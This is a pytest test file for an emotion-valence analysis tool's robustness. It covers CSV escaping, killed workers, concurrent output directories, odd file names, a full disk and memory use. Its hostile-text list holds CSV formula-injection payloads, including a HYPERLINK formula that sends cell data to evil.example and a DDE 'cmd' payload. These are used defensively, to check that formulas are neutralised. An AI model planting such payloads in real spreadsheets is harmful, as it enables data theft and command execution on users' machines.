"""Studies under hostile conditions (issue 22, items 1-9), with real processes where the
defect needs them: CSV cells that are not code and read back as written, a worker killed
while it sends its result, concurrent runs on one --out, non-UTF-8 file names, sessions
whose output directories would collide, the folder search's skipped entries, a bag whose
metadata lies, a full disk, --jobs caps and the worker's memory."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from test_analyze_cli import ep_topic, run, session, write_bag, write_facereader
from valence_ros.offline.csv_cells import FORMULA_TRIGGERS, csv_bytes, original_text, text_cell
from valence_ros.offline.study_pool import SEND_PAUSE_ENV, SEND_STAGES

PROCESS_TIMEOUT = 180   # s: a hang fails the test instead of the session


def _study_cmd(*args) -> list[str]:
    return [sys.executable, "-P", "-m", "valence_ros.offline.analyze", *map(str, args)]


def _two_inputs(root: Path, n: int = 60) -> Path:
    root.mkdir()
    for name in ("a", "b"):
        write_bag(root / name, "mcap", {"/emotion_probabilities": ep_topic(session(n, faces=(name,)))})
    return root


def _inputs_of(out: Path) -> list[tuple[str, str]]:
    return [(e["session"], e["status"]) for e in json.loads((out / "study.json").read_text())["inputs"]]


# ---------------------------------------------------------------------- items 6 and 7: CSV cells

HOSTILE_TEXT = ["alice\rbob", "carol\ndave", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead-tab", "\rlead-cr",
                "'already quoted", "a,b;c", 'say "hi"', " padded ", "\uff1dSUM(1)", "\0nul"]
ORDINARY_TEXT = ["alice", "face 7", "-1", "+3", "-0.125", "1e-3", "", "p01/rec", "José", "a-b", "x=y"]


def _read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_text_cells_are_no_formulas_and_read_back_exactly():
    rows = [[text, -0.5, 3, None, "-0.250000000"] for text in HOSTILE_TEXT + ORDINARY_TEXT]
    data = csv_bytes(rows, header=["face_id", "x", "n", "none", "fmt"])
    back = _read_back(data)
    assert back[0] == ["face_id", "x", "n", "none", "fmt"] and len(back) == len(rows) + 1
    for (text, *_), got in zip(rows, back[1:]):
        cell = got[0]
        lead = cell.lstrip(" ")[:1]
        assert not (lead in FORMULA_TRIGGERS and cell not in ORDINARY_TEXT), repr(cell)  # never a formula
        assert original_text(cell) == text.replace("\0", "\ufffd")   # NUL ends a cell for pandas and R
        assert got[1:] == ["-0.5", "3", "", "-0.250000000"]    # numbers are numbers, never neutralised
    for text in ORDINARY_TEXT:       # ordinary names and numbers are written as they are
        assert text_cell(text) == text
    assert text_cell("=1+1") == "'=1+1" and text_cell("alice\rbob") == '"alice\rbob"'
    # pandas reads as many rows as were written, with the same text
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert [original_text(c) for c in frame["face_id"]] == [r[0].replace("\0", "\ufffd") for r in rows]


def test_study_csvs_keep_rows_and_neutralise_formulas(tmp_path, capsys):
    data = tmp_path / "data"
    data.mkdir()
    faces = ("alice\rbob", "=HYPERLINK(\"http://evil.example\",\"x\")", "-1", "plain")
    write_bag(data / "=HYPERLINK(\"http:__evil\")", "mcap",
              {"/emotion_probabilities": ep_topic(session(40, faces=faces))})
    write_bag(data / "p02", "sqlite3", {"/emotion_probabilities": ep_topic(session(30, faces=("-0.5",)))})
    out = tmp_path / "o"
    code, _, stderr = run([data, "--out", out, "-q", "--jobs", "1", "--no-plots"], capsys)
    assert code == 0, stderr
    hostile_session = "=HYPERLINK(\"http:__evil\")"
    sessions = pd.read_csv(out / "sessions.csv", dtype=str, keep_default_na=False)
    assert len(sessions) == len(faces) + 1       # a bare CR used to split a row: pandas read a session "bob"
    got = sorted(zip(map(original_text, sessions["session"]), map(original_text, sessions["face_id"])))
    assert got == sorted([(hostile_session, f) for f in faces] + [("p02", "-0.5")])
    assert sessions["session"].str.startswith("'=").sum() == len(faces)
    assert not sessions["face_id"].str.startswith("=").any()
    assert "-1" in set(sessions["face_id"]) and "-0.5" in set(sessions["face_id"])   # numbers stay numbers
    assert (sessions["valence_min"].astype(float) < 0).any()   # and so do negative values
    episodes = pd.read_csv(out / "episodes.csv", dtype=str, keep_default_na=False)
    assert set(map(original_text, episodes["face_id"])) == set(faces) | {"-0.5"}
    assert not episodes["session"].str.startswith("=").any()
    per_input = pd.read_csv(out / f"{hostile_session}_valence" / "valence.csv", dtype=str, keep_default_na=False)
    assert len(per_input) == 40 * len(faces)
    assert set(map(original_text, per_input["face_id"])) == set(faces)
    assert not per_input["face_id"].str.startswith("=").any()


# ---------------------------------------------------------------------- item 1: a worker killed while sending


@pytest.mark.parametrize("stage", SEND_STAGES)
def test_a_worker_killed_while_sending_its_result_fails_its_input_only(tmp_path, stage):
    """The first result message stops at `stage` (test hook); SIGKILL there. The parent used
    to block for good reading the rest of the message."""
    data = _two_inputs(tmp_path / "data")
    marker = tmp_path / "paused"
    env = {**os.environ, SEND_PAUSE_ENV: f"{stage}:{marker}"}
    proc = subprocess.Popen(_study_cmd(data, "--out", tmp_path / "o", "-q", "--jobs", "1", "--no-plots"),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        deadline = time.monotonic() + PROCESS_TIMEOUT
        while not (marker.exists() and marker.read_text()) and proc.poll() is None:
            assert time.monotonic() < deadline, "the worker never reached the pause"
            time.sleep(0.02)
        os.kill(int(marker.read_text()), signal.SIGKILL)   # the worker holding input "a"
        _, stderr = proc.communicate(timeout=PROCESS_TIMEOUT)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 3, stderr
    assert "a: FAILED: the worker process died (exit code -9" in stderr
    assert _inputs_of(tmp_path / "o") == [("a", "failed"), ("b", "ok")]
    assert sorted(p.name for p in (tmp_path / "o").iterdir()) == [
        "b_valence", "episodes.csv", "frames.parquet", "sessions.csv", "study.json"]


# ---------------------------------------------------------------------- item 2: two runs, one --out


def _paused_study(data: Path, out: Path, marker: Path, *extra) -> subprocess.Popen:
    """A study run that stops in the middle (its first result paused by the test hook), holding --out."""
    env = {**os.environ, SEND_PAUSE_ENV: f"after-header:{marker}"}
    proc = subprocess.Popen(_study_cmd(data, "--out", out, "-q", "--jobs", "1", "--no-plots", *extra),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    deadline = time.monotonic() + PROCESS_TIMEOUT
    while not (marker.exists() and marker.read_text()):
        assert proc.poll() is None and time.monotonic() < deadline, "the study never reached the pause"
        time.sleep(0.02)
    return proc


def _no_leftovers(out: Path) -> bool:
    return not [p.name for p in out.parent.iterdir()
                if p.name.startswith((out.name + ".tmp-", out.name + ".old-", f".{out.name}.lock"))]


def test_a_second_run_on_a_claimed_out_fails_at_once(tmp_path):
    first = _two_inputs(tmp_path / "first")
    second = tmp_path / "second"
    second.mkdir()
    write_bag(second / "z", "sqlite3", {"/emotion_probabilities": ep_topic(session(30, faces=("z",)))})
    out, marker = tmp_path / "o", tmp_path / "paused"
    holder = _paused_study(first, out, marker)
    try:
        for argv in ([second, "--out", out], [second, "--out", out, "--overwrite"],
                     [second / "z", "--out", out, "--overwrite"]):     # a single-input run shares the code
            other = subprocess.run(_study_cmd(*argv, "-q", "--no-plots"), capture_output=True, text=True,
                                   timeout=PROCESS_TIMEOUT)
            assert other.returncode == 2, other.stderr
            assert "another valence_analyze run is writing it" in other.stderr, other.stderr
        os.kill(int(marker.read_text()), signal.SIGKILL)
        _, stderr = holder.communicate(timeout=PROCESS_TIMEOUT)
    finally:
        if holder.poll() is None:
            holder.kill()
            holder.wait()
    assert holder.returncode == 3, stderr
    assert _inputs_of(out) == [("a", "failed"), ("b", "ok")]   # the first run's study, whole
    assert _no_leftovers(out)


@pytest.mark.parametrize("overwrite", [False, True])
def test_two_concurrent_studies_on_one_out_never_both_win(tmp_path, overwrite):
    data = {}
    for name in ("x", "y"):
        data[name] = tmp_path / f"data_{name}"
        data[name].mkdir()
        write_bag(data[name] / name, "mcap", {"/emotion_probabilities": ep_topic(session(200, faces=(name,)))})
    out = tmp_path / "o"
    extra = ["--overwrite"] if overwrite else []
    for _ in range(2):
        procs = {name: subprocess.Popen(_study_cmd(data[name], "--out", out, "-q",
                                                   "--no-plots", "--jobs", "1", *extra),
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for name in ("x", "y")}
        results = {name: (p.wait(timeout=PROCESS_TIMEOUT), p.stderr.read()) for name, p in procs.items()}
        for p in procs.values():
            p.stdout.close()
            p.stderr.close()
        winners = [name for name, (code, _) in results.items() if code == 0]
        for code, stderr in results.values():
            assert code in (0, 2), stderr
            if code == 2:
                assert "another valence_analyze run is writing it" in stderr or "output directory exists" in stderr
        if not overwrite:
            assert len(winners) == 1 or (out.exists() and not winners), results   # the second round: both refused
        assert winners or not overwrite
        if winners:
            sessions = {e["session"] for e in json.loads((out / "study.json").read_text())["inputs"]}
            assert sessions in ({"x"}, {"y"})
            if len(winners) == 1:
                assert sessions == set(winners)
            # the study in place is whole and belongs to one run: its table agrees with its inputs
            frames = pd.read_parquet(out / "frames.parquet")
            assert set(frames["session"].astype(str)) == sessions
        assert _no_leftovers(out)


# ---------------------------------------------------------------------- item 3: non-UTF-8 file names


def _facereader_export(path: Path, seed: int = 5) -> None:
    rng = np.random.default_rng(seed)
    tmp = write_facereader(path.parent / "tmp-export.txt", [(i * 40_000_000, list(rng.random(7))) for i in range(50)])
    os.rename(tmp, path)


def test_a_non_utf8_file_name_is_an_input_like_any_other(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    latin1 = Path(os.fsdecode(bytes(data) + b"/Jos\xe9.csv"))            # a Latin-1 name, not UTF-8
    _facereader_export(latin1)
    _facereader_export(data / "Jos\\xe9.csv", seed=6)   # a valid name that reads like its escape
    write_bag(data / "p01", "mcap", {"/emotion_probabilities": ep_topic(session(30, faces=("a",)))})
    out = tmp_path / "o"
    proc = subprocess.run(_study_cmd(data, "--out", out, "--jobs", "2", "--no-plots"), capture_output=True,
                          timeout=PROCESS_TIMEOUT)
    assert proc.returncode == 0, proc.stderr
    assert b"Jos\\xe9~2  ok" in proc.stdout and b"3 of 3 inputs analysed" in proc.stdout
    study = json.loads((out / "study.json").read_text(encoding="utf-8"))
    entries = {e["session"]: e for e in study["inputs"]}
    # names are text: the file name's byte 0xE9 is written \xe9 (printable()); equal names get ~2
    assert entries["Jos\\xe9"]["path"] == str(data / "Jos\\xe9.csv")
    assert entries["Jos\\xe9~2"]["path"] == str(data) + "/Jos\\xe9.csv"
    assert all(e["status"] == "ok" for e in entries.values())
    sessions = pd.read_csv(out / "sessions.csv", dtype=str, keep_default_na=False)
    assert sorted(set(sessions["session"])) == ["Jos\\xe9", "Jos\\xe9~2", "p01"]
    assert sorted(set(pd.read_parquet(out / "frames.parquet")["session"].astype(str))) == \
        ["Jos\\xe9", "Jos\\xe9~2", "p01"]
    summary = json.loads((out / entries["Jos\\xe9~2"]["output"] / "summary.json").read_text(encoding="utf-8"))
    assert summary["input"]["path"] == str(data) + "/Jos\\xe9.csv"
    alone = subprocess.run(_study_cmd(latin1, "--out", tmp_path / "alone", "--no-plots"), capture_output=True,
                           timeout=PROCESS_TIMEOUT)
    assert alone.returncode == 0, alone.stderr
    assert (tmp_path / "alone" / "valence.csv").read_bytes() == \
        (out / entries["Jos\\xe9~2"]["output"] / "valence.csv").read_bytes()


# ---------------------------------------------------------------------- item 4: one directory per session


def test_sessions_never_share_an_output_directory_whatever_the_jobs(tmp_path):
    data = tmp_path / "data"
    for i, rel in enumerate(("p01/rec.csv", "p02/rec.csv", "p01__rec.csv", ".p03.csv")):
        (data / rel).parent.mkdir(parents=True, exist_ok=True)
        _facereader_export(data / rel, seed=i)
    outs = {}
    for jobs in (1, 2):
        outs[jobs] = tmp_path / f"o{jobs}"
        proc = subprocess.run(_study_cmd(data, data / ".p03.csv", "--out", outs[jobs], "-q", "--jobs", jobs,
                                         "--no-plots"), capture_output=True, text=True, timeout=PROCESS_TIMEOUT)
        assert proc.returncode == 0, proc.stderr
    study = json.loads((outs[2] / "study.json").read_text())
    assert [(e["session"], e["output"]) for e in study["inputs"]] == [
        (".p03", "%2Ep03_valence"), ("p01/rec", "p01%2Frec_valence"), ("p01__rec", "p01__rec_valence"),
        ("p02/rec", "p02%2Frec_valence")]
    for entry in study["inputs"]:        # each directory holds its own session's analysis
        summary = json.loads((outs[2] / entry["output"] / "summary.json").read_text())
        assert summary["input"]["path"] == entry["path"]
    assert json.loads((outs[1] / "study.json").read_text())["inputs"] == [
        {**e, "seconds": e2["seconds"], "worker_peak_rss_mib": e2["worker_peak_rss_mib"]}
        for e, e2 in zip(study["inputs"], json.loads((outs[1] / "study.json").read_text())["inputs"])]
    for name in ("sessions.csv", "episodes.csv"):
        assert (outs[1] / name).read_bytes() == (outs[2] / name).read_bytes()
    for entry in study["inputs"]:
        assert (outs[1] / entry["output"] / "valence.csv").read_bytes() == \
            (outs[2] / entry["output"] / "valence.csv").read_bytes()


# ---------------------------------------------------------------------- item 5: what the folder search skips


# Root reads a chmod-000 folder; without the two DAC capabilities it obeys the mode like anyone.
_NO_DAC = ["setpriv", "--bounding-set=-dac_override,-dac_read_search",
           "--inh-caps=-dac_override,-dac_read_search", "--"]


def test_the_folder_search_reports_every_entry_it_skips_and_takes_symlinked_files(tmp_path):
    """The layout of issue 22: a symlinked file (git-annex), a participant folder holding a
    study.json, an unreadable folder, and the other things a search meets."""
    prefix = []
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv (util-linux): cannot make a folder unreadable")
        prefix = _NO_DAC
    data, annex = tmp_path / "data", tmp_path / "annex"
    for folder in (data / "p03", data / "p04", annex):
        folder.mkdir(parents=True)
    _facereader_export(data / "p01.csv", seed=1)
    _facereader_export(annex / "SHA256E-s1--0a1b.csv", seed=2)
    os.symlink("../annex/SHA256E-s1--0a1b.csv", data / "p02.csv")       # outside the folder
    os.symlink("p02.csv", data / "z_alias.csv")                         # the same file again
    (data / "p03" / "study.json").write_text('{"participant": "p03", "notes": "own file"}\n')
    _facereader_export(data / "p03" / "rec.csv", seed=3)
    _facereader_export(data / "p04" / "lost.csv", seed=4)
    write_bag(tmp_path / "bags" / "b1", "mcap", {"/emotion_probabilities": ep_topic(session(30, faces=("k",)))})
    os.symlink("../bags/b1", data / "linked_bag")                         # a symlinked bag: an input
    os.symlink(".", data / "loop")                                        # a symlinked folder: not searched
    os.symlink("nowhere.csv", data / "dangling.csv")
    (data / "notes.md").write_text("notes\n")
    _facereader_export(data / ".hidden.csv", seed=5)
    os.chmod(data / "p04", 0)
    try:
        proc = subprocess.run(prefix + _study_cmd(data, "--out", tmp_path / "o", "-q", "--jobs", "1", "--no-plots"),
                              capture_output=True, text=True, timeout=PROCESS_TIMEOUT)
    finally:
        os.chmod(data / "p04", 0o755)
    assert proc.returncode == 0, proc.stderr
    study = json.loads((tmp_path / "o" / "study.json").read_text())
    assert [(e["session"], e["status"]) for e in study["inputs"]] == [
        ("linked_bag", "ok"), ("p01", "ok"), ("p02", "ok"), ("rec", "ok")]
    skipped = {str(Path(s["path"]).relative_to(data)): s["reason"] for s in study["skipped"]}
    assert skipped == {
        ".hidden.csv": "hidden",
        "dangling.csv": "broken symlink",
        "loop": "symlink to a folder that is no bag (not searched)",
        "notes.md": "not a bag file or CSV/TSV export (.md)",
        "p03/study.json": "not a bag file or CSV/TSV export (.json)",
        "p04": "folder not searched: Permission denied",
        "z_alias.csv": f"the same file as {data / 'p02.csv'}",
    }, skipped
    assert study["totals"]["skipped"] == 7
    assert "the folder search skipped 7 entries (" in proc.stderr and "in study.json" in proc.stderr


# ---------------------------------------------------------------------- item 8: metadata.yaml that lies


@pytest.mark.parametrize("storage", ["sqlite3", "mcap"])
def test_a_bag_whose_metadata_names_another_topic_is_read_from_its_storage(tmp_path, storage, capsys):
    frames = session(300)
    honest = write_bag(tmp_path / "honest", storage, {"/emotion_probabilities": ep_topic(frames)})
    lying = write_bag(tmp_path / "lying", storage, {"/emotion_probabilities": ep_topic(frames)})
    meta = lying / "metadata.yaml"
    assert meta.read_text().count("name: /emotion_probabilities") == 1
    meta.write_text(meta.read_text().replace("name: /emotion_probabilities", "name: /ghost"))
    code, stdout, stderr = run([honest, "--out", tmp_path / "o_honest", "--no-plots"], capsys)
    assert code == 0, stderr
    code, stdout, stderr = run([lying, "--out", tmp_path / "o_lying", "--no-plots"], capsys)
    assert code == 0, stderr
    assert "600 frames read, 600 published" in stdout      # was: "No frames published", 0 read
    assert "metadata.yaml lists /ghost" in stderr and "read from the storage" in stderr
    summary = json.loads((tmp_path / "o_lying" / "summary.json").read_text())
    assert summary["input"]["topics"][0]["name"] == "/emotion_probabilities"
    assert summary["frames"]["read"] == summary["input"]["topics"][0]["messages"] == 600
    assert any("metadata.yaml lists /ghost" in note for note in summary["notes"])
    assert (tmp_path / "o_lying" / "valence.csv").read_bytes() == (tmp_path / "o_honest" / "valence.csv").read_bytes()
    # in a study too
    code, _, stderr = run([lying, honest, "--out", tmp_path / "study", "-q", "--jobs", "1", "--no-plots"], capsys)
    assert code == 0, stderr
    inputs = json.loads((tmp_path / "study" / "study.json").read_text())["inputs"]
    assert [(e["session"], e["frames_read"]) for e in inputs] == [("honest", 600), ("lying", 600)]


# ---------------------------------------------------------------------- item 9: full disk, --jobs caps


@pytest.fixture
def small_disk(tmp_path):
    """A 256 KiB tmpfs (root only: mount(2)); unmounted afterwards."""
    mount = tmp_path / "small_disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True,
                          text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here (needs root): {done.stderr.strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


@pytest.fixture(scope="module")
def big_bags(tmp_path_factory):
    """Inputs whose outputs (~1 MB each) cannot fit on small_disk."""
    base = tmp_path_factory.mktemp("big")
    return {storage: write_bag(base / storage, storage, {"/emotion_probabilities": ep_topic(session(3000))})
            for storage in ("sqlite3", "mcap")}


@pytest.mark.parametrize("storage", ["sqlite3", "mcap"])
def test_a_full_disk_is_one_plain_line_and_exit_4(small_disk, big_bags, storage):
    out = small_disk / "o"
    proc = subprocess.run(_study_cmd(big_bags[storage], "--out", out, "--no-plots"), capture_output=True,
                          text=True, timeout=PROCESS_TIMEOUT)
    assert proc.returncode == 4, proc.stderr
    assert proc.stderr.startswith(f"valence_analyze: error: no space left on {out}"), proc.stderr
    assert proc.stderr.count("\n") == 1 and "internal error" not in proc.stderr
    assert list(small_disk.iterdir()) == []          # nothing left behind, the lock file included


def test_a_full_disk_in_a_study_fails_its_inputs_with_the_plain_line(small_disk, big_bags):
    out = small_disk / "o"
    proc = subprocess.run(_study_cmd(*big_bags.values(), "--out", out, "--no-plots", "-q", "--jobs", "2"),
                          capture_output=True, text=True, timeout=PROCESS_TIMEOUT)
    assert proc.returncode in (3, 4), proc.stderr          # 4 when the study's own tables do not fit either
    assert "internal error" not in proc.stderr and "no space left on" in proc.stderr
    if proc.returncode == 3:
        for entry in json.loads((out / "study.json").read_text())["inputs"]:
            assert entry["status"] == "failed", entry
            assert entry["error"].startswith(f"no space left on {out / entry['session']}_valence"), entry
    else:
        assert list(small_disk.iterdir()) == []


def test_write_failures_of_every_shape_are_recognised(tmp_path):
    """Real failures: a file write on /dev/full, sqlite's SQLITE_FULL, and either as the cause
    of another error. (Never point pyarrow at /dev/full: it replaces the device node with a file.)"""
    import sqlite3

    from valence_ros.offline.output_dir import output_write_error
    out = tmp_path / "o"
    failures = []
    try:
        with open("/dev/full", "wb") as f:
            f.write(b"x" * 100_000)
    except OSError as error:
        failures.append(error)
    db = sqlite3.connect(":memory:")
    db.execute("PRAGMA max_page_count=2")
    try:
        db.execute("CREATE TABLE t(x)")
        db.executemany("INSERT INTO t VALUES (?)", [(b"x" * 4000,)] * 10)
    except sqlite3.OperationalError as error:
        failures.append(error)
    try:   # as the writer thread hands it on: the cause of another error
        try:
            raise failures[0]
        except OSError as inner:
            raise RuntimeError("writer failed") from inner
    except RuntimeError as error:
        failures.append(error)
    assert len(failures) == 3
    for error in failures:
        converted = output_write_error(error, out)
        assert converted is not None and str(converted).startswith(f"no space left on {out}"), error
    assert output_write_error(ValueError("bad value"), out) is None
    assert output_write_error(FileNotFoundError(2, "No such file or directory"), out) is None


def test_a_pyarrow_write_on_a_full_disk_is_recognised(small_disk):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from valence_ros.offline.output_dir import output_write_error
    with pytest.raises(OSError) as caught:
        pq.write_table(pa.table({"a": np.random.default_rng(0).random(200_000)}), small_disk / "x.parquet")
    assert str(output_write_error(caught.value, small_disk)).startswith(f"no space left on {small_disk}")


def _one_core():
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})


def test_jobs_are_capped_at_the_inputs_and_at_two_per_core_and_the_cap_is_said(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    for i in range(3):
        _facereader_export(data / f"p{i}.csv", seed=i)
    proc = subprocess.run(_study_cmd(data, "--out", tmp_path / "a", "-q", "--jobs", "1000", "--no-plots"),
                          capture_output=True, text=True, timeout=PROCESS_TIMEOUT, preexec_fn=_one_core)
    assert proc.returncode == 0, proc.stderr
    # one core may run this process: at most 2 workers
    assert "--jobs 1000: running 2 workers (at most 2 per core, 1 core)" in proc.stderr
    assert json.loads((tmp_path / "a" / "study.json").read_text())["totals"]["jobs"] == 2
    proc = subprocess.run(_study_cmd(data / "p0.csv", data / "p1.csv", "--out", tmp_path / "b", "-q",
                                     "--jobs", "1000", "--no-plots"),
                          capture_output=True, text=True, timeout=PROCESS_TIMEOUT)
    assert proc.returncode == 0, proc.stderr
    assert "--jobs 1000: running 2 workers (one per input, 2)" in proc.stderr
    assert json.loads((tmp_path / "b" / "study.json").read_text())["totals"]["jobs"] == 2


# ---------------------------------------------------------------------- item 9: a worker's memory per episode


def _alternating_export(path: Path, n: int) -> None:
    """n frames alternating pure Happy / pure Sad: with no smoothing or hysteresis, n episodes."""
    happy, sad = "\t0\t1\t0\t0\t0\t0\t0", "\t0\t0\t1\t0\t0\t0\t0"
    rows = [f"00:{i // 1500:02d}:{i // 25 % 60:02d}.{i % 25 * 40:03d}{happy if i % 2 == 0 else sad}"
            for i in range(n)]
    path.write_text("Video analysis detailed log\n\nFilename\tx.avi\n\n"
                    "Video Time\tNeutral\tHappy\tSad\tAngry\tSurprised\tScared\tDisgusted\n" + "\n".join(rows) + "\n")


def test_episodes_cost_no_python_object_each_and_stream_to_episodes_csv(tmp_path):
    """1M episodes in one input peaked its worker at 559 MiB (and the parent at ~600): each
    episode was a tuple, then a row list in the pickled result, then again in the parent.
    Now: 17 bytes per episode in typed arrays, rows streamed to a file, a result of a few kB."""
    import pickle

    from valence_ros.core.parameters import validate_parameters
    from valence_ros.offline.episodes import EpisodeBuilder
    from valence_ros.offline.study_tables import episode_csv, episode_row
    from valence_ros.offline.study_worker import run_input
    n = 20_000
    _alternating_export(tmp_path / "flip.txt", n)
    params = validate_parameters({"smoothing_time_constant": 0.0, "hysteresis": 0.0})
    options = {"topic": None, "params_file": None, "node": "/valence_node", "storage": None, "no_plots": True,
               "batch_size": 4096}
    result = run_input({"index": 0, "session": "=flip", "path": str(tmp_path / "flip.txt"), "is_csv": True,
                        "out": str(tmp_path / "o"), "spill": str(tmp_path / "0.arrow"), "options": options,
                        "params": params}, lambda k: None)
    assert result["status"] == "ok", result
    assert len(pickle.dumps(result)) < 20_000          # was ~43 bytes per episode
    rows = Path(result["episodes_file"]).read_bytes().splitlines()
    assert len(rows) == n and rows[0].startswith(b"'=flip,,")
    # the streamed text is byte for byte what the one CSV policy writes for the same rows
    builder = EpisodeBuilder()
    for face, a, b in (("=x", 0, 10), ("=x", 10, 20), ("b\rc", 5, 7)):
        builder.add(face, np.array([a, b]), np.array([1, -1]), np.array([False, False]))
    builder.finish()
    assert b"".join(episode_csv("-s", builder)) == csv_bytes([episode_row("-s", *r) for r in builder.rows()])
    info = builder.faces["=x"]
    assert (info.states.itemsize, info.starts.itemsize, info.ends.itemsize) == (1, 8, 8)


def test_an_aborted_spill_on_a_full_disk_raises_nothing_and_leaves_nothing(small_disk):
    """A study worker whose input failed on a full disk aborts its frame spill; closing the
    spill then fails too, and that error escaped the worker (it died with exit code 1,
    reported as "the worker process died" instead of "no space left"; one clean-clone CI run)."""
    import numpy as np

    from valence_ros.offline.frames_spill import SpillWriter
    spill = SpillWriter(small_disk / "0.arrow")
    frames = (np.arange(1000, dtype=np.int64), np.zeros(1000, np.float32), np.zeros(1000, np.float32),
              np.zeros(1000, np.int8))
    fd = os.open(small_disk / "filler", os.O_WRONLY | os.O_CREAT)   # full to the byte
    for size in (65536, 4096, 1):
        with pytest.raises(OSError):
            while True:
                os.write(fd, b"\0" * size)
    os.close(fd)
    with pytest.raises(OSError):   # the input's own failure
        for _ in range(100):
            spill.add("s", "f", *frames)
    spill.abort()
    assert not (small_disk / "0.arrow").exists()
